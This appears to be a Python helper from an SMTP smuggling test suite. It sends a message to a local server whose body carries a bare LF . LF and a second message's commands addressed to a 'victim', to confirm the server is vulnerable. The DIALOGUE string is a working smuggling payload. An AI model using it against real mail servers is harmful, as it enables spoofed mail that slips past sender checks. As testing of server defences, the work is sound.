#!/usr/bin/env python3
"""Smuggles a second message through an SMTP server, as a careless sender would: the control of the smuggling tests.

    smuggle.py PORT

Sends one message to 127.0.0.1:PORT whose body holds LF . LF and the commands of a second message, unencoded and unescaped.
A server that takes LF . LF for the end of a message (Postfix before 3.9 by default, and later ones for their own networks)
queues two messages, the second for the victim. Where this does not happen, a test that sees one message proves nothing.
Exits 1 if the server refuses the first message.
"""

import smtplib
import sys

from canary_schedule import VICTIM

DIALOGUE = f"\n.\nMAIL FROM:<chef@example.net>\r\nRCPT TO:<{VICTIM}@example.net>\r\nDATA\r\nSubject: x\r\n\r\nx"


def main():
    if len(sys.argv) != 2 or not sys.argv[1].isdigit():
        print(__doc__, file=sys.stderr)
        return 64
    connection = smtplib.SMTP("127.0.0.1", int(sys.argv[1]), timeout=20)
    connection.ehlo("client.example")
    for command in ("MAIL FROM:<amt@kreis.example>", "RCPT TO:<person@example.org>", "DATA"):
        code, _ = connection.docmd(command)
        if code not in (250, 354):
            return 1
    connection.send(f"Subject: Absage\r\n\r\nGuten Tag{DIALOGUE}\r\n.\r\n".encode())
    # One reply to the first message, and one to each command of the second where there is one.
    replies = [connection.getreply()[0]]
    connection.send(b"QUIT\r\n")
    while replies[-1] != 221:
        replies.append(connection.getreply()[0])
    return 0 if replies[0] == 250 else 1


if __name__ == "__main__":
    sys.exit(main())
